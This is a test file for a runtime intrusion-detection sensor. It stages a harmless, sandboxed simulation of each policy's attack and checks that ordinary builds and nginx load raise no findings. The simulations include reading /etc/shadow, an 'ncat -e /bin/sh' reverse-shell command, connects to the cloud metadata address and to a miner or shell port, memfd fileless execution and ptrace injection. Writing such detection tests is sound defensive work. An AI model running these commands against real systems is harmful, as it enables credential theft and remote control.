/** An attack for each policy of packs/runtime, done for real in a harmless way; and ordinary work, which none of them minds. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { compileRuntimePolicies } from "../../src/policy/compile-runtime-policy.ts";
import { readDocuments } from "../../src/resource/document.ts";
import type { RuntimeEventName } from "../../src/resource/runtime-event-name.ts";
import { parseRuntimePolicy } from "../../src/resource/runtime-policy.ts";
import { Detector } from "../../src/sensor/detector.ts";
import { sourcesOf } from "../../src/sensor/event-sources.ts";
import { PretendedContainer, run, type Watched, watch } from "./sensor-fixture.ts";

const PACK = join(import.meta.dirname, "../../packs/runtime");
const policies = readdirSync(PACK)
  .filter((name) => name.endsWith(".yaml"))
  .flatMap((name) => readDocuments(readFileSync(join(PACK, name), "utf8"), name).documents)
  .flatMap((document) => {
    const parsed = parseRuntimePolicy(document);
    return parsed.kind === "runtime" ? [parsed.resource] : [];
  });

const SYS = { memfd_create: 319, ptrace: 101, init_module: 175, bpf: 321, setns: 308, unshare: 272 } as const;
const METADATA = "169.254.169.254";
const NOT_PRIVATE = "203.0.113.1";

let directory: string;
let ordinary: string;
let container: PretendedContainer;
let watched: Watched;
/** As by default: nothing is attached to system calls. */
let withoutCalls: Watched;
let untold: readonly RuntimeEventName[];

const named = (name: string, program: string): string => {
  const path = join(ordinary, name);
  copyFileSync(program, path);
  chmodSync(path, 0o755);
  return path;
};
const perl = (code: string, name = "perl"): readonly [string, readonly string[]] => [
  name === "perl" ? "/usr/bin/perl" : named(name, "/usr/bin/perl"),
  ["-e", code],
];
const inContainer = (program: string, args: readonly string[]): Promise<number> => run(program, args, { cgroup: container.path });
/** In a network of its own, in which these addresses are its own: nothing leaves the machine. */
const withAddress = (ip: string, program: string, code: string): readonly [string, readonly string[]] => [
  "/usr/bin/unshare",
  ["-n", "/bin/sh", "-c", `ip link set lo up; ip route add ${ip}/32 dev lo; exec "$0" -e "$1"`, program, code],
];
/** With a tmpfs over a directory of the system, in a mount namespace of its own. */
const over = (path: string, program: string, code: string): readonly [string, readonly string[]] => [
  "/usr/bin/unshare",
  ["-m", "/bin/sh", "-c", `mkdir -p ${path} && mount -t tmpfs none ${path} && exec "$0" -e "$1"`, program, code],
];
const connect = (ip: string, port: number): string =>
  `use Socket; use Fcntl; socket(S, AF_INET, SOCK_STREAM, 0); fcntl(S, F_SETFL, O_NONBLOCK); connect(S, sockaddr_in(${port}, inet_aton('${ip}')))`;

const ATTACKS: Readonly<Record<string, () => Promise<unknown>>> = {
  "executable-in-temporary-directory": () => {
    const path = join(directory, "dropped");
    copyFileSync("/bin/true", path);
    chmodSync(path, 0o755);
    return run(path, []);
  },
  "executable-in-memory": () =>
    run(
      ...perl(
        `my $n = 'hidden'; my $fd = syscall(${SYS.memfd_create}, $n, 0); open(I, '<', '/bin/true'); binmode I; local $/; my $data = <I>;` +
          `open(M, '>&=', $fd); binmode M; print M $data; M->flush; exec("/proc/$$/fd/$fd")`,
      ),
    ),
  "shell-under-server": () => run(...perl("my $p = fork; exec('/bin/sh', '-c', ':') if !$p; waitpid($p, 0)", "nginx")),
  "interpreter-burst": () => inContainer(...perl("for (1..40) { my $p = fork; exec('/bin/sh', '-c', ':') if !$p; waitpid($p, 0) }")),
  "program-outside-image": () => inContainer("/usr/bin/unshare", ["-m", "/bin/sh", "-c", OVERLAY, directory]),
  "privilege-escalation": () => {
    const path = named("escalate", "/bin/true");
    chmodSync(path, 0o4755);
    return run(...perl(`$( = $) = 65534; $< = $> = 65534; my $p = fork; exec('${path}') if !$p; waitpid($p, 0)`));
  },
  "crypto-miner": () => run(named("xmrig", "/bin/true"), []),
  "sensitive-file": () => run("/bin/cat", ["/etc/shadow"]),
  "service-account-token": () =>
    run("/usr/bin/unshare", [
      "-m",
      "/bin/sh",
      "-c",
      "mount -t tmpfs none /run && mkdir -p /run/secrets/kubernetes.io/serviceaccount && cd /run/secrets/kubernetes.io/serviceaccount && echo t > token && cat token",
    ]),
  persistence: () => run(...over("/etc/cron.d", "/usr/bin/perl", "open(F, '>', '/etc/cron.d/job')")),
  "binary-overwritten": () => inContainer(...over("/usr/local/sbin", "/usr/bin/perl", "open(F, '>', '/usr/local/sbin/tool')")),
  "traces-removed": () => {
    const path = `/var/log/vigil-test-${process.pid}`;
    writeFileSync(path, "");
    return run(...perl(`unlink('${path}')`));
  },
  "kernel-helper-written": () => run(...perl("open(F, '>>', '/proc/sys/kernel/core_pattern')", "tool")),
  "kernel-module": () => run(...perl(`syscall(${SYS.init_module}, 0, 0, 0)`, "loader")),
  "process-injection": () =>
    run(...perl(`my $p = fork; if (!$p) { sleep 30; exit } syscall(${SYS.ptrace}, 16, $p, 0, 0); kill 9, $p; waitpid($p, 0)`, "injector")),
  "namespace-crossed": () => inContainer(...perl(`syscall(${SYS.unshare}, 0x04000000)`)),
  "mount-in-container": () => inContainer("/usr/bin/unshare", ["-m", "/bin/mount", "-t", "tmpfs", "none", directory]),
  "bpf-program": () => run(...perl(`my $a = "\\0" x 128; syscall(${SYS.bpf}, 5, $a, 128)`, "loader")),
  "raw-socket": () => run(...perl("socket(S, 17, 3, 0)", "sniffer")),
  "reverse-shell": () => run(...withAddress(NOT_PRIVATE, named("bash", "/usr/bin/perl"), connect(NOT_PRIVATE, 4444))),
  "reverse-shell-command": () => run(named("ncat", "/bin/true"), ["-e", "/bin/sh", "127.0.0.1", "1"]),
  "cloud-metadata": () => inContainer(...withAddress(METADATA, "/usr/bin/perl", connect(METADATA, 80))),
  "miner-pool": () => run(...withAddress(NOT_PRIVATE, "/usr/bin/perl", connect(NOT_PRIVATE, 3333))),
};

const OVERLAY =
  "mkdir $0/o && mount -t tmpfs none $0/o && mkdir $0/o/l $0/o/u $0/o/w $0/o/m && " +
  "mount -t overlay overlay -o lowerdir=$0/o/l,upperdir=$0/o/u,workdir=$0/o/w $0/o/m && cp /bin/true $0/o/m/new && $0/o/m/new";

beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), "vigil-pack-"));
  ordinary = mkdtempSync("/opt/vigil-pack-");
  chmodSync(ordinary, 0o755);
  container = new PretendedContainer("decaf".padEnd(64, "0"));
  const { rules, diagnostics } = compileRuntimePolicies(policies);
  expect(diagnostics).toEqual([]);
  const judged = (mayWatchCalls: boolean): Watched =>
    watch({
      detector: new Detector({ policies: rules, findingsPerMinute: 10_000 }),
      wanted: { events: rules.interest.events, calls: [], mayWatchCalls },
      // Whatever else connects on this machine has room, too.
      ringBytes: 1 << 24,
    });
  watched = judged(true);
  withoutCalls = judged(false);
  untold = sourcesOf({ events: rules.interest.events, calls: [], mayWatchCalls: false }).untold;
});
afterAll(() => {
  watched[Symbol.dispose]();
  withoutCalls[Symbol.dispose]();
  container[Symbol.dispose]();
  rmSync(directory, { recursive: true });
  rmSync(ordinary, { recursive: true });
});

/** Findings about what this process started. */
const found = (by: Watched = watched): readonly string[] =>
  by.detections.filter(({ finding }) => finding.ancestry.some(({ pid }) => pid === process.pid)).map(({ finding }) => finding.policy);

/** The system's programs: a checkout in /tmp has a Node.js there, which one of the policies rightly finds. */
const SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

test("ordinary work raises none of them", { timeout: 60_000 }, async () => {
  const project = join(ordinary, "project");
  mkdirSync(project);
  writeFileSync(join(project, "package.json"), JSON.stringify({ name: "tiny", version: "1.0.0", scripts: { install: "node -e 1" } }));
  writeFileSync(join(project, "main.c"), "int main(void) { return 0; }\n");
  writeFileSync(join(project, "Makefile"), "main: main.c\n\tcc -o main main.c && ./main\n");
  expect(await run("/usr/bin/make", ["-C", project])).toBe(0);
  expect(
    await run("/bin/sh", ["-c", `PATH=${SYSTEM_PATH} npm install --offline --no-audit --no-fund --ignore-scripts=false`], { cwd: project }),
  ).toBe(0);
  expect(await run("/usr/bin/find", ["/etc", "-maxdepth", "1", "-name", "*.conf"])).toBe(0);
  expect(await run("/bin/tar", ["-cf", join(project, "all.tar"), "-C", project, "main.c"])).toBe(0);
  watched.sensor.drain();
  expect(watched.events.some(({ caller }) => caller.name === "make")).toBe(true);
  expect(found()).toEqual([]);
  withoutCalls.sensor.drain();
  expect(found(withoutCalls)).toEqual([]);
});

const NGINX_PORT = 18_196;
const REQUESTS = 600;
const CLIENTS = 8;
const REQUEST_MS = 5_000;

test("nginx under load, reloaded and stopped, raises none of them", { timeout: 120_000 }, async () => {
  const site = join(ordinary, "site");
  mkdirSync(site);
  writeFileSync(join(site, "index.html"), "hello\n");
  const paths = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"].map((name) => `${name}_temp_path ${site};`).join(" ");
  writeFileSync(
    join(site, "nginx.conf"),
    `daemon off; worker_processes 2; pid ${site}/pid; error_log ${site}/error.log; events {}
http { access_log ${site}/access.log; ${paths} server { listen 127.0.0.1:${NGINX_PORT}; root ${site}; } }\n`,
  );
  const nginx = spawn("/usr/sbin/nginx", ["-c", join(site, "nginx.conf")], { stdio: "ignore" });
  const ended = once(nginx, "exit");
  const get = async (keepsConnection: boolean): Promise<string> => {
    const headers: Record<string, string> = keepsConnection ? {} : { connection: "close" };
    const response = await fetch(`http://127.0.0.1:${NGINX_PORT}/`, { headers, signal: AbortSignal.timeout(REQUEST_MS) });
    return response.text();
  };
  /** A worker that is told to stop closes kept connections: who has just sent a request on one sends it again. */
  const getAtLast = async (keepsConnection: boolean): Promise<string> => {
    for (let attempt = 0; attempt < 100; attempt++) {
      const text = await get(keepsConnection && attempt === 0).catch(() => "");
      if (text !== "") return text;
      await pause(50);
    }
    return "";
  };
  try {
    await getAtLast(false);
    const client = async (): Promise<void> => {
      for (let number = 0; number < REQUESTS / CLIENTS; number++) expect(await getAtLast(number % 4 !== 0)).toBe("hello\n");
    };
    const load = Promise.all(Array.from({ length: CLIENTS }, client));
    nginx.kill("SIGHUP");
    await load;
  } finally {
    nginx.kill("SIGTERM");
  }
  expect(await ended).toEqual([0, null]);
  watched.sensor.drain();
  expect(watched.events.filter(({ type, caller }) => type === "openat" && caller.name === "nginx").length).toBeGreaterThan(REQUESTS);
  expect(found()).toEqual([]);
});

test("each attack is found by its policy", { timeout: 120_000 }, async () => {
  expect(Object.keys(ATTACKS).sort()).toEqual(policies.map(({ metadata }) => metadata.name).sort());
  const missed = (): readonly string[] => Object.keys(ATTACKS).filter((name) => !found().includes(name));
  for (const attack of Object.values(ATTACKS)) await attack();
  for (let attempt = 0; attempt < 100 && missed().length > 0; attempt++) {
    watched.sensor.drain();
    await pause(50);
  }
  expect(missed()).toEqual([]);
  expect(watched.sensor.counts.losses.process).toBe(0);
  // Without programs on system calls, those are found whose events anything else tells. Where the kernel has no modules, none is loaded.
  const hasModules = existsSync("/proc/modules");
  const expected = policies
    .filter(({ match }) => match.events.some((name) => !untold.includes(name)))
    .map(({ metadata }) => metadata.name)
    .filter((name) => hasModules || name !== "kernel-module");
  expect(expected.length).toBeGreaterThanOrEqual(15);
  const missedWithout = (): readonly string[] => expected.filter((name) => !found(withoutCalls).includes(name));
  for (let attempt = 0; attempt < 100 && missedWithout().length > 0; attempt++) {
    withoutCalls.sensor.drain();
    await pause(50);
  }
  expect(missedWithout()).toEqual([]);
  expect(withoutCalls.sensor.counts).toMatchObject({ isWatchingCalls: false, losses: { process: 0 } });
});
